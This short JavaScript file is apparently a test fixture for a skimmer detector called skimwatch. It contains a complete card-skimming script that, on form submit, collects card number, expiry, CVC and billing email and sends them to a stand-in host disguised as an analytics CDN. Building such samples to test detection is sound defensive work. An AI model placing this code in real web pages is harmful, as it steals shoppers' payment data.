// Synthetic WooCommerce-style skimmer for skimwatch tests: card fields by
// name, sent with a no-cors keep-alive request that needs no answer.
(function () {
  var names = ["wc-gateway-card-number", "wc-gateway-card-expiry", "wc-gateway-card-cvc", "billing_email"];
  document.addEventListener("submit", function () {
    var out = {};
    names.forEach(function (n) {
      var el = document.getElementById(n);
      if (el) out[n] = el.value;
    });
    fetch("https://woo-analytics-cdn.example/api/v1/t", {
      method: "POST", mode: "no-cors", keepalive: true, body: JSON.stringify(out)
    });
  });
})();
